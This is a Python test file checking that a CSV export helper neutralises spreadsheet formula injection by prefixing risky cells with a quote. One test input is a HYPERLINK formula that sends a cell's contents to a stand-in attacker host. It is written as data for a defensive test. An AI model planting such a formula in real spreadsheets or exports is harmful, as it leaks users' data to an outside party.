"""CSV exports never hand a spreadsheet a formula."""

import csv
import io

import pytest

from huisvanhetkind.core import csv as safe_csv


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("https://aanvaller.example/?d="&A2;"klik")',
        "-1+1",
        "+32 3 123 45 67",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value):
    assert safe_csv.safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Fatima El Amrani", "0470 11 22 33", "sara@example.be", "1 + 1 = 2", "", 3, -1, None]
)
def test_other_values_are_unchanged(value):
    assert safe_csv.safe_cell(value) == value


def test_the_writer_neutralises_every_cell_and_keeps_the_rest():
    stream = io.StringIO()
    writer = safe_csv.writer(stream, delimiter=";")

    writer.writerow(["=1+1", "Sara Peeters", 2])
    writer.writerows([["@me", "-", "gewoon"]])

    rows = list(csv.reader(io.StringIO(stream.getvalue()), delimiter=";"))
    assert rows == [["'=1+1", "Sara Peeters", "2"], ["'@me", "'-", "gewoon"]]
